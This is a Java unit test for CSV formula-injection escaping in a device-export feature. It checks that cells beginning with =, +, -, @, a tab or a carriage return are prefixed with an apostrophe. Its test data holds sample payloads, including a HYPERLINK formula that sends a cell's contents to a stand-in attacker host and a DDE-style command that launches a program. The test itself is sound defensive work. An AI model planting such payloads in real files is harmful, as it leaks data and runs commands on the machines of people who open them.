package com.sessiondesk.client.export;

import static org.assertj.core.api.Assertions.assertThat;

import com.sessiondesk.client.common.ExportColumn;
import java.io.Reader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * CSV injection: a cell a spreadsheet would read as a formula (it starts with =, +, -, @, a tab
 * or a carriage return) is written with a leading apostrophe, so it opens as text.
 */
class CsvFormulaTest {

    record Device(String model, String note) {
    }

    static final List<ExportColumn<Device>> COLUMNS = List.of(
            new ExportColumn<>("Model", Device::model), new ExportColumn<>("Note", Device::note));

    @TempDir
    Path dir;

    private List<CSVRecord> writeAndReadBack(List<Device> rows) throws Exception {
        Path file = dir.resolve("devices.csv");
        CsvExport.write(file, rows, COLUMNS, written -> { });
        try (Reader reader = Files.newBufferedReader(file, StandardCharsets.UTF_8)) {
            return CSVFormat.RFC4180.builder().setHeader().get().parse(reader).getRecords();
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "=HYPERLINK(\"http://evil.example/?d=\"&B2,\"Open\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
    })
    void aCellThatWouldRunAsAFormulaIsWrittenAsText(String payload) throws Exception {
        List<CSVRecord> records = writeAndReadBack(List.of(new Device(payload, "plain " + payload)));

        assertThat(records.get(0).get("Model")).isEqualTo("'" + payload);
        assertThat(records.get(0).get("Note")).as("only a leading character counts").isEqualTo("plain " + payload);
    }

    @Test
    void ordinaryCellsAreWrittenUnchanged() throws Exception {
        List<CSVRecord> records = writeAndReadBack(List.of(
                new Device("Galaxy A52 · Android 14", "2026-12-07T18:56:06Z"),
                new Device("'quoted already", "12"),
                new Device("", null)));

        assertThat(records.get(0).toList()).containsExactly("Galaxy A52 · Android 14", "2026-12-07T18:56:06Z");
        assertThat(records.get(1).toList()).containsExactly("'quoted already", "12");
        assertThat(records.get(2).toList()).containsExactly("", "");
    }
}
